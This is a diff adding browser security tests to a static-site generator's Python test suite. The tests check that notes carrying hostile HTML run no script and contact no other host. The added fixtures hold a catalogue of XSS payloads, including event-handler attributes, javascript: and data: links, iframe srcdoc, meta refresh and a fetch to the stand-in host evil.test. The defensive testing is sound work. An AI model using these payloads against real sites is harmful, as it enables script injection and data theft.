@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import contextlib
 import functools
+import html
 import http.server
 import json
 import os
@@ -220,10 +221,10 @@ class _Visit:
             self.foreign.append(url)
             route.abort()
 
-    def open(self, url: str) -> Any:
+    def open(self, url: str, timeout: int = 20_000) -> Any:
         self.page.goto(url)
         self.page.wait_for_selector("html[data-diagrams=drawn]", state="attached",
-                                    timeout=20_000)
+                                    timeout=timeout)
         return self.page
 
     def close(self) -> None:
@@ -475,3 +476,238 @@ def test_a_build_waits_while_another_holds_the_site(vault: Path, tmp_path: Path)
     _, err = build.communicate(timeout=300)
     assert build.returncode == 0 and err == "", err
     assert (site / "index.html").is_file()
+
+
+# Hostile notes: what a model may write, and a page must never run.
+
+PWN = "window.__pwned=1;alert(1);fetch('http://evil.test/x')"
+HOSTILE_NOTES = {
+    "details-ontoggle": f'<details open ontoggle="{PWN}"><summary>open</summary>x</details>\n',
+    "split-tag": f'Before.\n<img src=x\nonerror="{PWN}">\nAfter.\n',
+    "escaped-backticks": f"Not code: \\`<img src=x onerror=\"{PWN}\">\\` here.\n",
+    "less-than-in-attribute": f'<div title="<" autofocus onfocus="{PWN}">focus me</div>\n',
+    "iframe-srcdoc": ('<iframe srcdoc="&lt;script&gt;parent.__pwned=1;parent.alert(1)'
+                      '&lt;/script&gt;"></iframe>\n'),
+    "attr-list": (f'A paragraph.\n{{: autofocus onfocus="{PWN}" tabindex="1" }}\n\n'
+                  f'[x](#){{: onclick="{PWN}" onmouseover="{PWN}" }}\n\n'
+                  f'## Heading {{: onmouseover="{PWN}" }}\n'),
+    "hover-handler": f'<b onmouseover="{PWN}">hover</b> <span onmouseenter="{PWN}">me</span>\n',
+    "meta-refresh": '<meta\nhttp-equiv="refresh" content="0;url=http://evil.test/">\n\nText.\n',
+    "script-and-links": (f"<script>{PWN}</script>\n\n[click](javascript:{PWN}) "
+                         f'<a href="javascript:{PWN}">a</a> <a href="data:text/html,<script>'
+                         f'{PWN}</script>">d</a> <a href=" JaVaScRiPt:{PWN}">s</a>\n\n'
+                         f"[ref][evil]\n\n[evil]: javascript:{PWN}\n"),
+    "objects-forms-base": ('<object data="http://evil.test/o"></object>'
+                           '<embed src="http://evil.test/e">'
+                           '<form action="http://evil.test/f"><button>send</button></form>'
+                           '<base href="http://evil.test/">'
+                           '<link rel="stylesheet" href="http://evil.test/s.css">'
+                           '<style>@import url(http://evil.test/i.css);</style>\n\n'
+                           f'<svg onload="{PWN}"><a href="javascript:{PWN}"><text>t</text></a></svg>'
+                           f'<math><mi href="javascript:{PWN}">m</mi></math>\n\n'
+                           '<img src="http://evil.test/remote.png" alt="remote">\n'
+                           '![remote](https://evil.test/r.png)\n'),
+    "headings": (f'## <img src=x onerror="{PWN}"> Raw\n\n'
+                 f'## &lt;img src=x onerror="{PWN}"&gt; Escaped\n\n'
+                 f'## `<img src=x onerror="{PWN}">` Code\n\nText.\n'),
+}
+HOSTILE_FIELD = "<img src=x onerror=\"window.__pwned=1;alert(1)\">"
+PROBE = """() => {
+    const seen = [];
+    document.querySelectorAll('article *').forEach((el) => {
+        for (const kind of ['mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup',
+                            'pointerover', 'focus', 'focusin']) {
+            el.dispatchEvent(new Event(kind, { bubbles: kind !== 'mouseenter' }));
+        }
+        if (typeof el.focus === 'function') el.focus();
+        if (el.tagName === 'DETAILS') el.open = !el.open;
+        const href = el.getAttribute('href') || '';
+        if (el.tagName !== 'A' || href === '#' || /^\\s*(javascript|data):/i.test(href)) {
+            el.click();
+        }
+        seen.push(el.tagName);
+    });
+    return seen.length;
+}"""
+
+
+def _hostile_vault(vault: Path, folder: Path) -> Path:
+    """The demo vault and one note of each hostile case (and one whose front matter is)."""
+    copy = folder / "vault"
+    shutil.copytree(vault, copy)
+    notes = copy / "senior" / "hostile"
+    notes.mkdir()
+    for name, body in HOSTILE_NOTES.items():
+        title = name.replace("-", " ").title()
+        (notes / f"{name}.md").write_text(
+            f"---\ntitle: {title}\ncategory: Hostile\npersona: senior\ntags:\n  - persona/senior\n"
+            f"---\n\n# {title}\n\n{body}\nThe end.\n", encoding="utf-8")
+    field = json.dumps(HOSTILE_FIELD)
+    (notes / "front-matter.md").write_text(
+        f"---\ntitle: {field}\ncategory: {field}\npersona: senior\nmodel: {field}\n"
+        f"aliases:\n  - {field}\ntags:\n  - {field}\n---\n\n# Front matter\n\nBody.\n",
+        encoding="utf-8")
+    return copy
+
+
+class _Probe(_Visit):
+    """A visit that watches for script run by a note: ``window.__pwned``, a dialog, a
+    navigation away from the page, a request to any other place."""
+
+    def __init__(self, browser: Any, base: str) -> None:
+        super().__init__(browser, base)
+        self.dialogs: list[str] = []
+        self.navigations: list[str] = []
+        self.context.add_init_script("Object.defineProperty(window, '__pwned', {set(v) {"
+                                     " document.documentElement.dataset.pwned = 'yes'; }});")
+        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
+        self.page.on("framenavigated",
+                     lambda f: f.parent_frame is None and self.navigations.append(f.url))
+
+    def sweep(self, url: str) -> dict[str, Any]:
+        from playwright.sync_api import Error as PlaywrightError
+
+        self.navigations.clear()
+        try:
+            self.open(url)
+            swept = self.page.evaluate(PROBE)
+        except PlaywrightError as exc:  # the page went away, or never drew: the note won
+            return {"swept": 0, "broken": str(exc).splitlines()[0], "foreign": list(self.foreign),
+                    "away": list(self.navigations), "dialogs": list(self.dialogs)}
+        self.page.wait_for_timeout(300)  # a toggle event is dispatched after the toggle
+        return {"swept": swept, "pwned": self.page.evaluate(
+            "document.documentElement.dataset.pwned || null"),
+            "dialogs": list(self.dialogs), "foreign": list(self.foreign),
+            "away": [u for u in self.navigations if u.split("#")[0] != url]}
+
+
+@pytest.fixture(scope="module")
+def hostile_site(vault: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile")
+    result = build_site(_hostile_vault(vault, folder), folder / "site")
+    assert result.problems == [], result.problems
+    return folder / "site"
+
+
+@pytest.fixture(scope="module")
+def hostile_served(hostile_site: Path) -> Iterator[str]:
+    server = _Server(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(hostile_site)))
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize("over", ["http", "file"])
+def test_no_note_runs_script_in_the_site(hostile_site: Path, hostile_served: str, browser: Any,
+                                         over: str) -> None:
+    """Every hostile case, loaded, hovered, focused, toggled and clicked over: no script of
+    a note runs, no dialog opens, the page goes nowhere and asks no other host for anything."""
+    base = hostile_served if over == "http" else hostile_site.as_uri() + "/"
+    visit = _Probe(browser, base)
+    try:
+        outcomes: dict[str, dict[str, Any]] = {}
+        for name in [*HOSTILE_NOTES, "front-matter"]:
+            found = visit.sweep(f"{base}senior/hostile/{name}.html")
+            outcomes[name] = {k: v for k, v in found.items() if k != "swept" and v}
+            if not outcomes[name]:
+                assert found["swept"] > 3, name  # the page has content: the sweep swept it
+            visit.dialogs.clear()
+            visit.foreign.clear()
+        assert outcomes == {name: {} for name in outcomes}
+    finally:
+        visit.close()
+
+
+def test_what_a_note_may_show_still_shows(hostile_site: Path, browser: Any) -> None:
+    """The allowlist keeps formatting and takes out the rest: a hostile title is its words,
+    an image on another host is a link, the words of a tag taken out stay."""
+    visit = _Visit(browser, "file://")
+    try:
+        page = visit.open((hostile_site / "senior/hostile/front-matter.html").as_uri())
+        assert page.locator("article h1").first.inner_text().rstrip("¶") == "Front matter"
+        assert HOSTILE_FIELD in page.inner_text("article .sdgen-properties")
+        assert HOSTILE_FIELD in page.inner_text("nav.md-nav--primary")  # title and category
+        assert HOSTILE_FIELD in page.inner_text(".md-header__topic >> nth=1")
+        page = visit.open((hostile_site / "senior/hostile/objects-forms-base.html").as_uri())
+        links = page.eval_on_selector_all("article a[href*='evil.test']",
+                                          "els => els.map(e => [e.href, e.textContent])")
+        assert sorted(links) == [["http://evil.test/remote.png", "remote"],
+                                 ["https://evil.test/r.png", "remote"]]
+        assert page.locator("article img, article form, article object, article embed, "
+                            "article svg, article iframe, article button").count() == 0
+        assert "send" in page.inner_text("article")  # the button's words stay
+        page = visit.open((hostile_site / "senior/hostile/headings.html").as_uri())
+        toc = page.inner_text("nav.md-nav--secondary")
+        assert "Raw" in toc and '<img src=x onerror="' in toc  # the escaped one, as words
+        assert visit.foreign == []
+    finally:
+        visit.close()
+
+
+def test_allowed_formatting_renders(vault: Path, tmp_path: Path) -> None:
+    """Raw HTML a study note uses for formatting reaches the page; a diagram's text reaches
+    Mermaid exactly as written; a task list's boxes stay boxes that cannot be used."""
+    copy = tmp_path / "vault"
+    shutil.copytree(vault, copy)
+    note = copy / "senior" / "messaging" / "idempotent-writes.md"
+    diagram = 'flowchart LR\n  A["a < b & \\"c\\""] -->|"x > y"| B{{C}}\n  %% note'
+    note.write_text(note.read_text() + "\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, "
+                    "x<sup>2</sup>, <mark>hot</mark>, <abbr title='Queries per second'>QPS</abbr>, "
+                    "<del>old</del> <ins>new</ins> <s>gone</s>.<br>Next line.\n\n"
+                    "> [!TIP] A tip\n> Inside.\n\n"
+                    "- [x] done\n- [ ] open\n\nA claim.[^1]\n\n[^1]: The source.\n\n"
+                    f"```mermaid\n{diagram}\n```\n")
+    result = build_site(copy, tmp_path / "site")
+    assert result.clean, (result.problems, result.warnings)
+    page = (tmp_path / "site" / "senior/messaging/idempotent-writes.html").read_text()
+    page = page[page.index("<article"):page.index("</article>")]
+    for kept in ("<kbd>Ctrl</kbd>", "<sub>2</sub>", "<sup>2</sup>", "<mark>hot</mark>",
+                 '<abbr title="Queries per second">QPS</abbr>', "<del>old</del>",
+                 "<ins>new</ins>", "<s>gone</s>", "<br>", 'class="headerlink"',
+                 'class="footnote"', 'href="#fn:1"', 'class="footnote-backref"',
+                 'class="admonition', 'class="highlight"', 'class="task-list-item"'):
+        assert kept in page, kept
+    boxes = re.findall(r"<input[^>]*>", page)
+    assert len(boxes) == 2 and all('type="checkbox"' in b and "disabled" in b for b in boxes)
+    assert sum("checked" in b for b in boxes) == 1
+    shown = re.findall(r'<div class="mermaid-diagram">(.*?)</div>', page, re.DOTALL)
+    assert diagram in [html.unescape(text) for text in shown]
+
+
+VIOLATIONS = ("document.addEventListener('securitypolicyviolation', (e) => {"
+              " document.documentElement.dataset.violations = (document.documentElement.dataset"
+              ".violations || '') + e.violatedDirective + ' ' + e.blockedURI + ';'; }, true);")
+
+
+@pytest.mark.parametrize("over", ["http", "file"])
+def test_the_strict_policy_blocks_nothing_the_site_runs(vault: Path, site: Path, served: str,
+                                                        browser: Any, over: str) -> None:
+    """Under the pages' strict Content Security Policy (no inline script), every page of the
+    demo vault draws, and none meets a violation or logs an error; search works, from a file
+    share too (its worker runs in a frame there)."""
+    base = served if over == "http" else site.as_uri() + "/"
+    visit = _Visit(browser, base)
+    visit.context.add_init_script(VIOLATIONS)
+    try:
+        policy = ""
+        for page_info in site_pages(vault):
+            page = visit.open(base + page_info.url)
+            policy = page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content")
+            assert page.evaluate("document.documentElement.dataset.violations || ''") == "", \
+                page_info.url
+            assert page.evaluate("typeof window.__md_get") == "function"  # the theme's script ran
+        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
+        for directive in ("object-src 'none'", "base-uri 'none'", "form-action 'none'"):
+            assert directive in policy
+        page = visit.open(base + "index.html")
+        page.click("input.md-search__input")
+        page.keyboard.type("consistent hashing")
+        page.locator(".md-search-result__item a").first.wait_for(timeout=10_000)
+        hrefs = page.eval_on_selector_all(".md-search-result__item a", "els => els.map(e => e.href)")
+        assert any("senior/scalability-patterns/consistent-hashing.html" in h for h in hrefs), hrefs
+        assert page.evaluate("document.documentElement.dataset.violations || ''") == ""
+        assert visit.errors == [] and visit.foreign == []
+    finally:
+        visit.close()
